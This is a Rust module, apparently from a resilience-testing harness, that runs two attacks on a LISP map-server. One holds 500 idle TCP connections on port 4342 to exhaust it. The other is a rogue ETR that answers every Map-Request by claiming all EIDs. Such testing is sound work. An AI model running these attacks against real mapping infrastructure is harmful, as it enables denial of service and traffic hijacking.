//! Attacks that continue for a long time: idle connections, and an ETR that claims all EIDs.

use std::net::{Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::Duration;

use eidway::addr::Rloc;
use eidway::wire::{CONTROL_PORT, Encapsulated, MapReply, MapRequest};

use crate::X;
use crate::pace::Sent;
use crate::packets::{NEW_MSMR, record};

/// The number of connections that are held at one time.
const CONNECTIONS: usize = 500;
/// The interval at which a new connection is made, if there are fewer.
const A_WHILE: Duration = Duration::from_millis(20);

/// Holds idle connections to port 4342. Replaces connections that are closed.
pub fn hold_connections(is_over: &AtomicBool) -> Sent {
    let mut sent = Sent { name: "connections that idle", packets: 0, refused: 0 };
    let mut held: Vec<TcpStream> = Vec::new();
    let to = SocketAddr::new(NEW_MSMR.into(), CONTROL_PORT);
    while !is_over.load(Ordering::Relaxed) {
        held.retain(stands);
        if held.len() < CONNECTIONS {
            match TcpStream::connect_timeout(&to, A_WHILE * 10) {
                Ok(stream) => {
                    stream.set_nonblocking(true).unwrap();
                    held.push(stream);
                    sent.packets += 1;
                }
                Err(_) => sent.refused += 1,
            }
        }
        thread::sleep(A_WHILE);
    }
    sent
}

fn stands(stream: &TcpStream) -> bool {
    let mut octet = [0];
    let peeked = stream.peek(&mut octet);
    matches!(peeked, Ok(1))
        || peeked.is_err_and(|error| error.kind() == std::io::ErrorKind::WouldBlock)
}

/// Answers each Map-Request that a map-server forwards. The answer says that all EIDs are at this
/// ETR.
pub fn claim_all(is_over: &AtomicBool) -> Sent {
    let mut sent = Sent { name: "replies that claim all", packets: 0, refused: 0 };
    let socket = UdpSocket::bind((X, CONTROL_PORT)).unwrap();
    socket.set_read_timeout(Some(A_WHILE)).unwrap();
    let mut buffer = [0; 2000];
    while !is_over.load(Ordering::Relaxed) {
        let Ok(len) = socket.recv(&mut buffer) else { continue };
        let Some((to, reply)) = claim(&buffer[..len]) else { continue };
        match socket.send_to(&reply, SocketAddr::new(to.0, CONTROL_PORT)) {
            Ok(_) => sent.packets += 1,
            Err(_) => sent.refused += 1,
        }
    }
    sent
}

fn claim(datagram: &[u8]) -> Option<(Rloc, Vec<u8>)> {
    let outer = Encapsulated::parse(datagram).ok()?;
    let request = MapRequest::parse(&outer.message).ok()?;
    let records = vec![record(Ipv4Addr::UNSPECIFIED, 0, X)];
    let reply = MapReply { nonce: request.nonce, records, ..MapReply::default() };
    Some((*request.itr_rlocs.first()?, reply.emit()))
}
